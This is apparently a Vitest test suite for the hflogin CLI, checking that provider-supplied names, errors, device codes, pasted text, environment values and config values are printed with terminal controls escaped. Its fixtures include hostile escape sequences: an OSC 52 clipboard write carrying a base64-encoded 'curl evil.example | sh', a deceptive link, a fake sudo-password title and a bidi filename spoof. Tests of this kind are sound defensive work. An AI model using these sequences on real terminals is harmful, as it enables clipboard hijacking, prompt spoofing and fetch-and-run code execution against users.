import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

import { afterEach, describe, expect, it } from 'vitest';

import { defaultOptions, type HuggingFaceUser, type LogtoUserSeed } from '../emulator/options.js';
import { browseToCallback } from '../helpers/httpUserAgent.js';
import { expectRefused } from '../helpers/hostile.js';
import { fakeHost, hflogin, type FakeHost, type InProcessRun } from '../helpers/inProcess.js';
import { deviceLoginArgs, loginArgs, useEmulator } from '../helpers/useEmulator.js';

/**
 * Issue 14, terminal safety: text from outside (the provider's claims and errors, device codes and
 * URIs, pasted text, files, the environment) reaches the terminal spelled out, never as the escape
 * sequences, C1 controls or bidi controls it holds; `--json` keeps it exact.
 */

/** What a terminal would act on (as src/io/terminal.ts lists it). */
// eslint-disable-next-line no-control-regex -- finding control characters is the point.
const unsafe = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
const clean = (text: string) => !unsafe.test(text);

/** Each attack: what the provider sends, and how hflogin must show it (every control spelled out). */
const attacks: ReadonlyArray<{ name: string; raw: string; shown: string }> = [
  {
    name: 'OSC 52 clipboard write',
    raw: '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007',
    shown: '\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007',
  },
  {
    name: 'OSC 8 link',
    raw: '\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\',
    shown: '\\u001b]8;;https://evil.example/\\u001b\\click\\u001b]8;;\\u001b\\',
  },
  { name: 'window title', raw: '\u001b]0;sudo password:\u0007', shown: '\\u001b]0;sudo password:\\u0007' },
  {
    name: 'cursor moves and erase',
    raw: '\u001b[2J\u001b[H\u001b[3A\rroot',
    shown: '\\u001b[2J\\u001b[H\\u001b[3A\\u000droot',
  },
  { name: 'C1 CSI (U+009B)', raw: '\u009b2J\u009b31m', shown: '\\u009b2J\\u009b31m' },
  { name: 'bidi override', raw: '\u202egnp.exe\u2066x\u2069', shown: '\\u202egnp.exe\\u2066x\\u2069' },
];

/** Two users per attack: one with it in her name and Hugging Face username, one only in her email. */
const named = (index: number) => `mallory${index}`;
function hostileUsers(): { huggingFaceUsers: HuggingFaceUser[]; users: LogtoUserSeed[] } {
  const defaults = defaultOptions();
  const hf = (index: number, username: string, name: string): HuggingFaceUser => ({
    sub: `66${String(index).padStart(2, '0')}0000000000000000000${index % 2 ? 'a' : 'b'}`.slice(0, 24),
    preferred_username: username,
    name,
    email: null,
    picture: 'https://cdn-avatars.huggingface.co/mallory.png',
    isPro: false,
    orgs: [],
  });
  return {
    huggingFaceUsers: [
      ...defaults.huggingFaceUsers,
      ...attacks.flatMap(({ raw }, index) => [
        hf(index * 2, `${named(index)}${raw}`, `Mallory${raw}`),
        hf(index * 2 + 1, `plain${index}`, 'Plain'),
      ]),
    ],
    users: [
      ...defaults.users,
      ...attacks.map(({ raw }, index): LogtoUserSeed => ({
        id: `u9mail${String(index).padStart(6, '0')}`,
        username: null,
        name: null,
        primaryEmail: `m${index}${raw}@example.com`,
        avatar: null,
        linkedHuggingFace: `plain${index}`,
      })),
    ],
  };
}

describe('terminal safety: hostile text from outside is shown, never obeyed', () => {
  const emulator = useEmulator(hostileUsers);
  afterEach(() => {
    emulator.options.hostile = null;
  });

  /** Signs in on a new host as `user` (a Hugging Face username), with a file session. */
  async function signIn(user: string): Promise<{ host: FakeHost; login: InProcessRun }> {
    const host = fakeHost();
    const login = hflogin(host, loginArgs(emulator, '--storage', 'file'), { browser: { user } });
    expect(await login.exit).toBe(0);
    return { host, login };
  }

  async function run(host: FakeHost, args: string[]): Promise<InProcessRun> {
    const done = hflogin(host, args);
    await done.exit;
    return done;
  }

  attacks.forEach(({ name, raw, shown }, index) => {
    it(`${name} in a user's name and Hugging Face username: login, whoami and status spell it out; --json keeps it exact`, async () => {
      const username = `${named(index)}${raw}`;
      const { host, login } = await signIn(username);
      expect(login.stderr()).toContain(`Signed in as ${named(index)}${shown} (Hugging Face)`);
      expectRefused(`${name} in the Hugging Face username: login`, clean(login.stdout() + login.stderr()));

      const whoami = await run(host, ['whoami']);
      expect(whoami.stdout()).toContain(`as Mallory${shown} — Hugging Face: ${named(index)}${shown}`);
      expectRefused(`${name} in the name and username: whoami`, clean(whoami.stdout() + whoami.stderr()));

      const status = await run(host, ['status']);
      expect(status.stdout()).toContain(`Mallory${shown} (${named(index)}${shown})`);
      expectRefused(`${name} in the name and username: status`, clean(status.stdout() + status.stderr()));

      const whoamiJson = JSON.parse((await run(host, ['whoami', '--json'])).stdout()) as {
        user: { name: string };
        huggingface: { username: string; name: string };
      };
      expect(whoamiJson.user.name).toBe(`Mallory${raw}`);
      expect(whoamiJson.huggingface.username).toBe(username);
      const statusRun = await run(host, ['status', '--json']);
      expect(clean(statusRun.stdout())).toBe(true);
      const statusJson = JSON.parse(statusRun.stdout()) as {
        profiles: Array<{ user: { name: string }; huggingface: { username: string } }>;
      };
      expect(statusJson.profiles[0]!.user.name).toBe(`Mallory${raw}`);
      expect(statusJson.profiles[0]!.huggingface.username).toBe(username);
    });

    it(`${name} in a user's email (shown when she has no name): whoami and status spell it out; --json keeps it exact`, async () => {
      const { host, login } = await signIn(`plain${index}`);
      expectRefused(`${name} in the email: login`, clean(login.stdout() + login.stderr()));

      const whoami = await run(host, ['whoami']);
      expect(whoami.stdout()).toContain(`as m${index}${shown}@example.com`);
      expectRefused(`${name} in the email: whoami`, clean(whoami.stdout() + whoami.stderr()));

      const status = await run(host, ['status']);
      expect(status.stdout()).toContain(`m${index}${shown}@example.com (plain${index})`);
      expectRefused(`${name} in the email: status`, clean(status.stdout() + status.stderr()));

      const whoamiJson = JSON.parse((await run(host, ['whoami', '--json'])).stdout()) as {
        user: { email: string };
      };
      expect(whoamiJson.user.email).toBe(`m${index}${raw}@example.com`);
      const statusJson = JSON.parse((await run(host, ['status', '--json'])).stdout()) as {
        profiles: Array<{ user: { email: string } }>;
      };
      expect(statusJson.profiles[0]!.user.email).toBe(`m${index}${raw}@example.com`);
    });
  });

  const [osc52, osc8, title, cursor, c1, bidi] = attacks as [
    (typeof attacks)[number],
    (typeof attacks)[number],
    (typeof attacks)[number],
    (typeof attacks)[number],
    (typeof attacks)[number],
    (typeof attacks)[number],
  ];

  it("the callback's error_description (a denied sign-in) is spelled out; login --json's error event keeps it exact", async () => {
    const description = `Denied${osc52.raw}${bidi.raw}`;
    emulator.options.hostile = { redirectErrorDescription: description };
    const run = hflogin(fakeHost(), loginArgs(emulator, '--storage', 'file', '--json'), {
      browser: { decision: 'deny' },
    });
    expect(await run.exit).toBe(1);
    expect(run.stderr()).toContain(`access_denied (Denied${osc52.shown}${bidi.shown})`);
    expectRefused("escapes in the callback's error_description", clean(run.stderr()));
    const events = run
      .stdout()
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { event: string; message?: string });
    expect(events.at(-1)!.message).toContain(description);
    expect(clean(run.stdout())).toBe(true);
  });

  it("the token endpoint's error_description is spelled out, in the error and in --debug's cause", async () => {
    emulator.options.hostile = {
      refuse: { route: 'token', error: 'invalid_grant', error_description: `Nope${title.raw}${c1.raw}` },
    };
    const run = hflogin(fakeHost(), loginArgs(emulator, '--storage', 'file', '--debug'));
    expect(await run.exit).toBe(1);
    expect(run.stderr()).toContain(`invalid_grant: Nope${title.shown}${c1.shown}`);
    expect(run.stderr()).toContain('debug: cause:');
    expectRefused("escapes in the token endpoint's error_description (with --debug)", clean(run.stderr()));
  });

  it("logout's error (the revocation refused, with escapes) is spelled out", async () => {
    const host = fakeHost();
    await host.seed(emulator, 'file');
    emulator.options.hostile = {
      refuse: { route: 'revocation', error: 'invalid_request', error_description: `Later${cursor.raw}` },
    };
    const run = hflogin(host, ['logout']);
    await run.exit;
    expect(run.stderr()).toContain(`Later${cursor.shown}`);
    expectRefused('escapes in the revocation error logout reports', clean(run.stderr()));
    expect(await host.session('file')).toBeNull();
  });

  it("the device flow's user code and verification URIs are spelled out; --json's device event keeps them exact", async () => {
    const device = {
      user_code: `WDJB${c1.raw}MJHT${osc52.raw}`,
      verification_uri: `${emulator.endpoint}/device${osc8.raw}`,
      verification_uri_complete: `${emulator.endpoint}/device?user_code=WDJB${title.raw}`,
    };
    emulator.options.hostile = { device };
    const run = hflogin(
      fakeHost(),
      deviceLoginArgs(emulator, '--storage', 'file', '--json', '--timeout', '30'),
    );
    await expect.poll(() => run.stderr(), { timeout: 10_000 }).toContain('Waiting for approval');
    run.interrupt();
    expect(await run.exit).toBe(130);
    expect(run.stderr()).toContain(`Code: WDJB${c1.shown}MJHT${osc52.shown}`);
    expectRefused('escapes in the device flow user code and verification URIs', clean(run.stderr()));
    const event = run
      .stdout()
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>)
      .find((line) => line.event === 'device');
    expect(event).toMatchObject({
      userCode: device.user_code,
      verificationUri: device.verification_uri,
      verificationUriComplete: device.verification_uri_complete,
    });
  });

  it('a pasted value is echoed spelled out, and the pasted callback is still taken exactly', async () => {
    const host = fakeHost({ BROWSER: '', SSH_CONNECTION: '10.0.0.2 50000 10.0.0.1 22' });
    const run = hflogin(host, loginArgs(emulator, '--storage', 'file'), { terminal: true });
    const url = await run.signInUrl;
    await expect.poll(() => run.stderr(), { timeout: 10_000 }).toMatch(/Paste the address/);
    // What a terminal passes on as typed text (ESC itself is a key to readline): C1 and bidi.
    run.type(`not${c1.raw}an${bidi.raw}address`);
    await expect
      .poll(() => run.stderr(), { timeout: 10_000 })
      .toContain(`not${c1.shown}an${bidi.shown}address`);
    run.type('\r');
    await expect.poll(() => run.stderr(), { timeout: 10_000 }).toMatch(/That is not an address/);
    expectRefused(
      'C1 and bidi controls in pasted text, echoed',
      !/[\u0080-\u009f\u202a-\u202e\u2066-\u2069]/.test(run.stderr()),
    );
    run.type('\u0015');
    run.type(`${await browseToCallback(url)}\r`);
    expect(await run.exit).toBe(0);
  });

  it('an environment value in an error (HFLOGIN_ENDPOINT) is spelled out', async () => {
    const run = hflogin(fakeHost({ HFLOGIN_ENDPOINT: `https://tenant${osc8.raw}.example` }), ['login']);
    expect(await run.exit).toBe(2);
    expect(run.stderr()).toContain(`https://tenant${osc8.shown}.example`);
    expectRefused('escapes in HFLOGIN_ENDPOINT, echoed in its error', clean(run.stderr()));
  });

  it('a config file value is spelled out by config get and config list; config list --json keeps it exact', async () => {
    const host = fakeHost();
    const appId = `app${osc52.raw}${bidi.raw}`;
    mkdirSync(host.configDir, { recursive: true, mode: 0o700 });
    writeFileSync(
      join(host.configDir, 'config.json'),
      JSON.stringify({ schemaVersion: 1, profiles: { [host.profile]: { appId } } }),
      { mode: 0o600 },
    );
    const get = await run(host, ['config', 'get', 'app-id']);
    expect(get.stdout()).toBe(`app${osc52.shown}${bidi.shown}\n`);
    const list = await run(host, ['config', 'list']);
    expect(list.stdout()).toContain(`app-id=app${osc52.shown}${bidi.shown}`);
    expectRefused('escapes in a config file value, printed', clean(get.stdout() + list.stdout()));
    const json = await run(host, ['config', 'list', '--json']);
    expect(clean(json.stdout())).toBe(true);
    expect(
      (JSON.parse(json.stdout()) as { profiles: Record<string, { 'app-id': string }> }).profiles[
        host.profile
      ]!['app-id'],
    ).toBe(appId);
  });

  it("a command-line value in commander's usage error is spelled out", async () => {
    const run = hflogin(fakeHost(), ['whoami', `--pro${title.raw}`]);
    expect(await run.exit).toBe(2);
    expect(run.stderr()).toContain(`--pro${title.shown}`);
    expectRefused("escapes in an unknown option, echoed by commander's error", clean(run.stderr()));
  });
});
